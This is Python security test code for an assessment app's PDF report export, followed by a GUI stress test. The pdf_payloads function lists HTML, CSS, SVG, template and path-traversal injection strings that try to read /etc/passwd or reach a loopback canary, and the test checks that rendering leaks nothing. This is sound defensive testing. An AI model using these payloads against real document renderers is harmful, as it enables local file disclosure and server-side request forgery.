def cold_report_processes(db: Path, assessment_id: int, out: Path) -> tuple[list[str], str]:
    """The processes a report starts in a fresh process watched from its first line (loading
    WeasyPrint and matplotlib included), and an error line when that report failed."""
    proc = subprocess.run([sys.executable, "-c", _COLD_REPORT, str(db), str(assessment_id), str(out)],
                          env=child_env(), capture_output=True, text=True, timeout=300)
    if proc.returncode:
        return [], (proc.stderr.strip().splitlines() or [f"exit {proc.returncode}"])[-1]
    return [f"cold start: {x}" for x in json.loads(proc.stdout.strip().splitlines()[-1])], ""


def pdf_payloads(port: int) -> list[str]:
    net = f"http://127.0.0.1:{port}"
    return [
        "file:///etc/passwd", f"{net}/plain", f"<img src=\"{net}/img\">", "<img src=\"file:///etc/passwd\">",
        f"<style>@import url({net}/css);</style>", f"@import url(\"{net}/css2\");",
        "<object data=\"file:///etc/passwd\" type=\"text/plain\"></object>",
        "<link rel=attachment href=\"file:///etc/passwd\">", f"<link rel=stylesheet href=\"{net}/link\">",
        f"<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">"
        f"<image href=\"file:///etc/passwd\" xlink:href=\"{net}/svg\" width=\"10\" height=\"10\"/></svg>",
        f"<iframe src=\"{net}/iframe\"></iframe>", "<embed src=\"file:///etc/passwd\">",
        f"<a href=\"{net}/a\">click</a>", f"<div style=\"background:url({net}/bg)\">x</div>",
        f"<base href=\"{net}/\"><img src=\"rel.png\">", "<script>document.write('x')</script>",
        "{{ 7*7 }} {% raw %}", "</td></tr></table><h1>injected</h1>", f"url({net}/bare)",
        "<img src=\"../../../../etc/passwd\">", "<img src=\"/etc/passwd\">",
        f"<video src=\"{net}/video\" poster=\"{net}/poster\"></video>",
        f"<input type=image src=\"{net}/input\">", "<link rel=attachment href=\"/etc/passwd\">",
    ]


def _raw_html_through_fetcher(payloads: list[str], out: Path) -> tuple[int, int]:
    """Render the payloads as raw HTML (as if escaping had failed) with the report's URL fetcher,
    watched by the audit hook. Returns (requests refused by the fetcher, opens recorded before)."""
    import weasyprint

    from capacity_app.paths import resources_dir
    from capacity_app.reports.fetcher import SafeFetcher

    fetcher = SafeFetcher(resources_dir())
    html = "<html><body>" + "\n".join(f"<p>{p}</p>" for p in payloads) + "</body></html>"
    before = len(_AuditLog.opens)
    _AuditLog.active = True
    try:
        doc = weasyprint.HTML(string=html, base_url=resources_dir().as_uri() + "/", url_fetcher=fetcher)
        doc.write_pdf(str(out))
    finally:
        _AuditLog.active = False
    return len(fetcher.refused), before


def audit_selfcheck(workdir: Path) -> dict:
    """Proof that the watchers see what they must: a deliberate file open and a connection to the
    canary while the audit log is active."""
    import urllib.request

    _AuditLog.install()
    canary = _Canary()
    _AuditLog.opens.clear()
    _AuditLog.connects.clear()
    _AuditLog.active = True
    try:
        (Path(workdir) / "probe.txt").write_text("x")
        urllib.request.urlopen(f"http://127.0.0.1:{canary.port}/probe", timeout=5).read()
    finally:
        _AuditLog.active = False
        canary.close()
    return {"opens": [p for p in _AuditLog.opens if p.endswith("probe.txt")],
            "connects": list(_AuditLog.connects), "hits": list(canary.hits)}


def scenario_pdf_isolation(workdir: Path) -> dict:
    """Answers, comments, evidence, title and institutions carrying file://, http:// (to a loopback
    canary server), @import, <img>, <object>, <link rel=attachment>, SVG <image>: the PDF is written
    with no file opened outside the allowed folders, no connection, nothing embedded."""
    import sysconfig

    from pypdf import PdfReader

    from capacity_app.domain.assessment import Institution
    from capacity_app.paths import resources_dir
    from capacity_app.services.assessments import (
        ServiceError, add_evidence, create_assessment, open_store, questionnaire_for, record_answer,
    )
    from capacity_app.services.reports import build_report_context, export_report_pdf

    workdir = Path(workdir).resolve()
    workdir.mkdir(parents=True, exist_ok=True)
    canary = _Canary()
    problems: list[str] = []
    try:
        payloads = pdf_payloads(canary.port)
        q = questionnaire_for()
        keys = text_keys(q)
        db = workdir / "pdf.sqlite3"
        store = open_store(db, daily_backup=False)
        try:
            a = create_assessment(store, q, country="KEN", round=2026, title=payloads[7] + " " + payloads[2],
                                  institutions=[Institution(payloads[9], payloads[4])])
            for i, p in enumerate(payloads):
                try:
                    record_answer(store, q, a.id, keys[i], p, comment=payloads[-1 - i])
                    add_evidence(store, q, a.id, keys[i], "url", p)
                except ServiceError as exc:
                    problems.append(f"payload refused at entry: {p!r}: {exc}")
            # a scored answer with a payload comment, so that comments reach scored sections too
            expected_attachments = {att.name for att in build_report_context(store, q, a.id, "en").attachments}
            out = workdir / "report.pdf"
            # the libraries are loaded first (this process may hold them already): what is watched
            # here is rendering user content; their loading is watched by the cold start below
            import weasyprint  # noqa: F401
            import matplotlib.pyplot  # noqa: F401
            _AuditLog.install()
            _AuditLog.opens.clear()
            _AuditLog.connects.clear()
            _AuditLog.processes.clear()
            _AuditLog.active = True
            t0 = time.perf_counter()
            try:
                export_report_pdf(store, a.id, out, lang="en")
            finally:
                _AuditLog.active = False
            seconds = time.perf_counter() - t0
            # the same report from a cold start: loading the libraries starts no process either
            # (WeasyPrint's library lookup ran ldconfig and gcc: reports/pdf.load_weasyprint)
            cold, cold_error = cold_report_processes(db, a.id, workdir / "cold.pdf")
            if cold_error:
                problems.append(f"the report from a cold start failed: {cold_error}")
            # the second wall: the same payloads as raw, unescaped HTML through the app's fetcher
            wall_refused, wall_opens_before = _raw_html_through_fetcher(payloads, workdir / "raw.pdf")
        finally:
            store.close()
        time.sleep(0.2)  # let a late request reach the canary
        hits = list(canary.hits)
    finally:
        canary.close()
    allowed = [str(resources_dir().resolve()), str(workdir), tempfile.gettempdir(), sys.prefix,
               sys.base_prefix, sysconfig.get_paths()["purelib"], sysconfig.get_paths()["stdlib"],
               "/usr/share/fonts", "/usr/local/share/fonts", "/etc/fonts", "/var/cache/fontconfig",
               "/usr/share/zoneinfo", "/dev/urandom", "/dev/null", "/usr/share/mime", "/etc/mime.types",
               "/proc/self/status",  # capacity_app/files.py reads the umask there before writing the output
               os.path.expanduser("~/.cache"), os.path.expanduser("~/.config/matplotlib"),
               os.path.expanduser("~/.fonts"), os.path.expanduser("~/.local/share/fonts"),
               os.environ.get("MPLCONFIGDIR", "/nonexistent"), str(REPO / "capacity_app")]
    opened_outside = []
    for p in _AuditLog.opens:
        rp = os.path.realpath(p) if not p.startswith(("/proc/", "/dev/")) else p
        if not any(rp == a or rp.startswith(a.rstrip("/") + "/") for a in allowed):
            opened_outside.append(p)
    passwd_opens = [p for p in _AuditLog.opens if "passwd" in p]
    raw_pdf = workdir / "raw.pdf"
    if raw_pdf.exists() and b"root:x:0:0" in b"".join(
            (pg.extract_text() or "").encode() for pg in PdfReader(str(raw_pdf)).pages):
        problems.append("raw HTML through the fetcher: /etc/passwd content in the PDF")
    if raw_pdf.exists():
        for name in PdfReader(str(raw_pdf)).attachments:
            problems.append(f"raw HTML through the fetcher: file embedded as attachment {name}")
    connects = list(_AuditLog.connects)
    processes = list(_AuditLog.processes) + cold
    reader = PdfReader(str(out))
    attachments = dict(reader.attachments)
    extra = sorted(set(attachments) - expected_attachments)
    text = "".join(page.extract_text() or "" for page in reader.pages)
    blobs = [text.encode("utf-8", "replace"), out.read_bytes()]
    for contents in attachments.values():
        blobs.extend(contents)
    leaked = sum(1 for b in blobs if b"root:x:0:0" in b or b"canary" in b.lower())
    squashed = "".join(text.split())
    shown = sum(1 for p in payloads if "".join(p.split())[:20] in squashed)
    for p in sorted(set(opened_outside))[:10]:
        problems.append(f"opened outside the allowed folders: {p}")
    problems += [f"network: {c}" for c in connects[:10]]
    problems += [f"canary request: {h}" for h in hits[:10]]
    problems += [f"process started while rendering: {c}" for c in processes[:10]]
    problems += [f"unexpected attachment: {n}" for n in extra]
    if leaked:
        problems.append(f"/etc/passwd or canary content found in {leaked} parts of the PDF")
    summary = (f"{len(payloads)} hostile payloads in answers, comments, evidence, title and institutions: "
               f"{len(set(opened_outside))} files opened outside the allowed folders "
               f"({len(passwd_opens)} opens of /etc/passwd), {len(connects)} connections, {len(processes)} "
               f"processes started (the same report from a cold start included), {len(hits)} "
               f"canary requests, {len(extra)} unexpected attachments, {leaked} leaks of file content; "
               f"{shown} payloads visible as plain text; rendered in {seconds:.1f} s. The same payloads as "
               f"raw HTML through the report's URL fetcher: {wall_refused} requests refused, counted above")
    ok = not opened_outside and not connects and not processes and not hits and not extra and not leaked \
        and not problems
    return result(ok, summary, problems, payloads=len(payloads), opened_outside=len(set(opened_outside)),
                  passwd_opens=len(passwd_opens), connections=len(connects), processes=len(processes),
                  canary_hits=len(hits),
                  extra_attachments=len(extra), leaks=leaked, shown_as_text=shown,
                  render_seconds=round(seconds, 1), fetcher_refused=wall_refused)


# --- 9. GUI under stress ----------------------------------------------------------------------

def scenario_gui_close_during_export(workdir: Path, closes: int, seed: int = 9) -> dict:
    """Close the main window at random moments while its export (workbook; every fifth time the PDF
    report) runs and answers are being saved: no abort, no thread left running, no Qt thread
    warning, output complete or absent, no acknowledged answer lost. Runs in a child process so
    that an abort is counted."""
    workdir = Path(workdir)
    workdir.mkdir(parents=True, exist_ok=True)
    env = child_env()
    env["QT_QPA_PLATFORM"] = "offscreen"
    t0 = time.perf_counter()
    proc = subprocess.run([sys.executable, str(HERE / "gui_cycles.py"), str(workdir), str(closes)],
                          capture_output=True, text=True, env=env, cwd=str(REPO), timeout=3600)
    elapsed = time.perf_counter() - t0
    lines = [ln for ln in proc.stdout.splitlines() if ln.startswith("RESULT ")]
    aborted = proc.returncode != 0 or not lines
    if aborted:
        return result(False, f"the GUI process ended abnormally (exit status {proc.returncode})",
                      [proc.stderr[-1500:]], aborted=1, cycles=closes)
    fig = json.loads(lines[-1][7:])
    problems = fig.pop("problems")
    if not fig["has_exchange"] or not fig["has_reports"]:
        problems.append("the workbook export or the PDF report could not be loaded in the window")
    stderr_thread = [ln for ln in proc.stderr.splitlines() if "QThread" in ln or "Destroyed while" in ln]
    problems += [f"stderr: {ln}" for ln in stderr_thread[:5]]
    ok = (not problems and fig["threads_left"] == 0 and fig["thread_warnings"] == 0 and fig["lost"] == 0
          and fig["incomplete_outputs"] == 0 and fig["temp_files_left"] == 0)
    summary = (f"{fig['cycles']} closes ({fig['closed_while_running']} while the export ran, "
               f"{fig['pdf_cycles']} of them PDF reports): 0 aborts, {fig['threads_left']} threads left "
               f"running, {fig['thread_warnings'] + len(stderr_thread)} Qt thread warnings, "
               f"{fig['incomplete_outputs']} incomplete outputs ({fig['complete_outputs']} complete, "
               f"{fig['absent_outputs']} absent), {fig['temp_files_left']} temporary files left, "
               f"{fig['lost']} acknowledged answers lost (last values of {fig['acknowledged']} answers checked); slowest close "
               f"{fig['worst_close_seconds']:.2f} s")
    return result(ok, summary, problems, aborted=0, seconds=round(elapsed, 1), **fig)
